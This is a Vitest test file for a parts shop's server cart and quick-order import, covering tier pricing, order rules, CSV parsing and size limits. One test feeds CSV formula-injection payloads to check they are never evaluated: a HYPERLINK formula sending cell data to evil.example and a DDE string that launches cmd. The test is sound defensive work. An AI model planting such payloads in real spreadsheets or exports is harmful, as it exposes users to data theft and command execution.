import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Cart, QuickOrderCheckResponse } from '@forgeline/shared/schemas/cart';
import type { ProductRow } from '../src/db/schema/index.ts';
import type { TestUser } from './auth-helper.ts';
import { buildTestApp, type TestApp } from './helper.ts';
import { createCast, expectRefused } from './support/cast.ts';
import { makeProduct } from './support/data.ts';

let t: TestApp;
let customerA: TestUser;
let customerB: TestUser;
let bolt: ProductRow;
let nut: ProductRow;

beforeAll(async () => {
  t = await buildTestApp();
  ({ customerA, customerB } = await createCast(t.app));
  bolt = await makeProduct(t.app, {
    sku: 'FL-TST-BOLT',
    name: 'Test bolt',
    priceCents: 420,
    minOrder: 50,
    packSize: 10,
    maxOrder: 2000,
    availableQuantity: 1000,
    priceTiers: [
      { minQuantity: 100, priceCents: 400 },
      { minQuantity: 500, priceCents: 390 },
    ],
  });
  nut = await makeProduct(t.app, {
    sku: 'FL-TST-NUT',
    name: 'Test nut',
    priceCents: 8,
    availableQuantity: 10_000,
  });
});
afterAll(() => t.close());

const call = async (
  user: TestUser | null,
  method: 'GET' | 'POST' | 'PUT' | 'DELETE',
  url: string,
  payload?: Record<string, unknown>,
) => t.app.inject({ method, url, headers: user?.headers ?? {}, payload });

describe('the server cart', () => {
  it('is for signed-in buyers only', async () => {
    expect((await call(null, 'GET', '/api/cart')).statusCode).toBe(401);
    await expectRefused(
      t.app,
      () => call(null, 'POST', '/api/cart/lines', { lines: [{ sku: 'FL-TST-NUT', quantity: 5 }] }),
      401,
    );
  });

  it('adds lines by id or part number, sums a repeated product, prices each at its tier', async () => {
    const res = await call(customerA, 'POST', '/api/cart/lines', {
      lines: [
        { productId: bolt.id, quantity: 60 },
        { sku: 'fl-tst-nut', quantity: 100 },
        { sku: 'FL-TST-BOLT', quantity: 40 },
        { sku: 'NO-SUCH-PART', quantity: 3 },
      ],
    });
    expect(res.statusCode, res.body).toBe(200);
    const cart = res.json<Cart>();
    expect(cart.lines.map((l) => [l.sku, l.quantity, l.unitPrice, l.lineTotal, l.problem])).toEqual([
      ['FL-TST-BOLT', 100, 4, 400, null],
      ['FL-TST-NUT', 100, 0.08, 8, null],
    ]);
    expect(cart).toMatchObject({ total: 408, count: 2 });
    expect(cart.skipped).toEqual([
      { index: 3, input: 'NO-SUCH-PART', message: "There is no part number 'NO-SUCH-PART'." },
    ]);

    // Kept on the server: another device (the same account) sees it; another buyer does not.
    expect((await call(customerA, 'GET', '/api/cart')).json<Cart>().count).toBe(2);
    expect((await call(customerB, 'GET', '/api/cart')).json<Cart>()).toMatchObject({
      lines: [],
      total: 0,
      count: 0,
    });
  });

  it('shows the rule a line breaks, with its message, and the next tier when the quantity grows', async () => {
    const put = async (quantity: number) =>
      (await call(customerA, 'PUT', `/api/cart/lines/${bolt.id}`, { quantity })).json<Cart>().lines[0]!;
    expect((await put(55)).problem).toEqual({ rule: 'multiple', message: 'Order in multiples of 10 pcs.' });
    expect((await put(40)).problem).toEqual({
      rule: 'minimum',
      message: "You can't order less than 50 pcs !",
    });
    expect((await put(1010)).problem).toEqual({
      rule: 'stock',
      message: 'You cannot buy more than availability!',
    });
    const five = await put(500);
    expect(five).toMatchObject({ unitPrice: 3.9, lineTotal: 1950, problem: null });
  });

  it('removes a line, refuses one not in the cart, and empties the cart', async () => {
    const removed = await call(customerA, 'DELETE', `/api/cart/lines/${nut.id}`);
    expect(removed.json<Cart>().lines.map((l) => l.sku)).toEqual(['FL-TST-BOLT']);
    expect((await call(customerA, 'DELETE', `/api/cart/lines/${nut.id}`)).statusCode).toBe(404);
    expect((await call(customerB, 'PUT', `/api/cart/lines/${bolt.id}`, { quantity: 5 })).statusCode).toBe(
      404,
    );
    expect((await call(customerA, 'DELETE', '/api/cart')).json<Cart>()).toMatchObject({ count: 0, total: 0 });
  });

  it.each([
    [{ lines: [] }, 'Add at least one line'],
    [{ lines: [{ quantity: 5 }] }, 'Give a productId or a part number (sku)'],
    [{ lines: [{ sku: 'FL-TST-NUT', quantity: 2.5 }] }, 'Quantity must be a whole number of pieces.'],
    [{ lines: [{ sku: 'FL-TST-NUT', quantity: 0 }] }, 'Quantity must be at least 1'],
  ])('refuses a bad body with a message and stores nothing (%j)', async (payload, message) => {
    const res = await expectRefused(t.app, () => call(customerA, 'POST', '/api/cart/lines', payload), 400);
    expect(res.json().message).toBe(message);
  });
});

describe('quick order check', () => {
  const check = (text: string, user: TestUser | null = customerA) =>
    call(user, 'POST', '/api/quick-order/check', { text });

  it('checks pasted lines, each with its own message, storing nothing', async () => {
    const res = await expectRefused(
      t.app,
      async () => {
        const r = await check(
          'FL-TST-BOLT 500\nfl-tst-nut\t100 pcs\n\nFL-TST-BOLT 55\nFL-NOPE 3\nFL-TST-NUT\nFL-TST-NUT 1.5',
        );
        return { ...r, statusCode: r.statusCode === 200 ? 299 : r.statusCode };
      },
      299,
    );
    const body = res.json<QuickOrderCheckResponse>();
    expect(body.lines.map((l) => [l.line, l.sku, l.quantity, l.unitPrice, l.problem?.rule ?? null])).toEqual([
      [1, 'FL-TST-BOLT', 500, 3.9, null],
      [2, 'FL-TST-NUT', 100, 0.08, null],
      [4, 'FL-TST-BOLT', 55, 4.2, 'multiple'],
      [5, 'FL-NOPE', 3, null, 'unknown'],
      [6, 'FL-TST-NUT', null, null, 'quantity'],
      [7, 'FL-TST-NUT', null, null, 'quantity'],
    ]);
    expect(body.lines[3]?.problem?.message).toBe("There is no part number 'FL-NOPE'.");
    expect(body).toMatchObject({ validCount: 2, total: 1958 });
  });

  it('reads CSV files as spreadsheets write them: BOM, CRLF, semicolons, quotes, a header row', async () => {
    const csv = '\uFEFF"Part number";"Quantity"\r\nFL-TST-BOLT;"1 000"\r\n"FL-TST-NUT";200\r\n';
    const body = (await check(csv)).json<QuickOrderCheckResponse>();
    expect(body.lines.map((l) => [l.line, l.sku, l.quantity])).toEqual([
      [2, 'FL-TST-BOLT', 1000],
      [3, 'FL-TST-NUT', 200],
    ]);
    const tabs = (await check('sku\tqty\rFL-TST-NUT\t10\r')).json<QuickOrderCheckResponse>();
    expect(tabs.lines.map((l) => [l.sku, l.quantity, l.problem])).toEqual([['FL-TST-NUT', 10, null]]);
    // A UTF-16 file the browser decoded (its BOM becomes U+FEFF) reads the same.
    const utf16 = new TextDecoder('utf-16le').decode(Buffer.from('\uFEFFFL-TST-NUT,20\n', 'utf16le'));
    expect((await check(utf16)).json<QuickOrderCheckResponse>().lines[0]).toMatchObject({
      sku: 'FL-TST-NUT',
      quantity: 20,
      problem: null,
    });
  });

  it('treats formula cells as text: an unknown part, echoed (truncated), never evaluated or stored', async () => {
    const hostile = `=HYPERLINK("http://evil.example/?"&A1,"click"),10\n+cmd|' /C calc'!A0,5\n@SUM(1+1),1\n-2+3,4\n${'=A'.repeat(400)},1`;
    const res = await expectRefused(
      t.app,
      async () => {
        const r = await check(hostile);
        return { ...r, statusCode: r.statusCode === 200 ? 299 : r.statusCode };
      },
      299,
    );
    const lines = res.json<QuickOrderCheckResponse>().lines;
    expect(lines).toHaveLength(5);
    for (const line of lines) {
      expect(line.problem?.rule).toBe('unknown');
      expect(line.productId).toBeNull();
      expect(line.input.length).toBeLessThanOrEqual(200);
    }
    expect(lines[0]?.input).toContain('=HYPERLINK(');
  });

  it('refuses a huge file with 413 and a broken one with 400, each with a clear message', async () => {
    const big = await check('FL-TST-NUT 10\n'.repeat(20_000));
    expect(big.statusCode).toBe(413);
    expect(big.json().message).toMatch(/at most 200 KB and 1000 lines/);
    const many = await check('A 1\n'.repeat(1001));
    expect(many.statusCode).toBe(413);
    expect((await check('A 1\n'.repeat(1000))).statusCode).toBe(200);
    // Quotes that do not pair up are letters: the line says what is wrong with it.
    const unpaired = (await check('FL-TST-NUT,"10\nFL-TST-BOLT,50')).json<QuickOrderCheckResponse>();
    expect(unpaired.lines.map((l) => [l.line, l.sku, l.problem?.rule ?? null])).toEqual([
      [1, 'FL-TST-NUT', 'quantity'],
      [2, 'FL-TST-BOLT', null],
    ]);
    const longLine = await check(`FL-TST-NUT,${'9'.repeat(1200)}`);
    expect(longLine.statusCode).toBe(400);
    expect(longLine.json().message).toMatch(/Line 1: this is not a list of part numbers and quantities/);
    expect((await check('   \n\n')).statusCode).toBe(400);
    expect((await check('FL-TST-NUT 1', null)).statusCode).toBe(401);
  });
});
